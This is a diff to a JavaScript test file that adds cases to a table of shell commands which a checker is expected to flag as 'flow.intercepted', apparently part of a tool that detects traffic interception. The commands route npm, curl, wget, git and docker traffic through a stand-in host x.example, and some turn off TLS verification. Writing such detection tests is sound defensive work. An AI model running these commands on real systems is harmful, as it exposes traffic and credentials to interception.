@@ -28,6 +28,13 @@ describe('what settings hold', () => {
       'NODE_TLS_REJECT_UNAUTHORIZED=0 HTTPS_PROXY=http://x.example:1 npm i',
       'flow.intercepted',
     ],
+    ['a proxy that stays', 'npm config set proxy http://x.example:8080', 'flow.intercepted'],
+    ['plain text through a proxy', 'curl -x http://x.example:1 http://api.example.com', 'flow.intercepted'],
+    [
+      'the same by a variable',
+      'http_proxy=http://x.example:1 wget http://api.example.com/a',
+      'flow.intercepted',
+    ],
     ['the same for curl', 'curl -k -x http://x.example:1 https://api.example', 'flow.intercepted'],
     ['the same for Git', 'git -c http.proxy=x.example:1 -c http.sslVerify=false push', 'flow.intercepted'],
     ['a daemon of a stranger', 'docker -H tcp://x.example:2375 build .', 'flow.intercepted'],
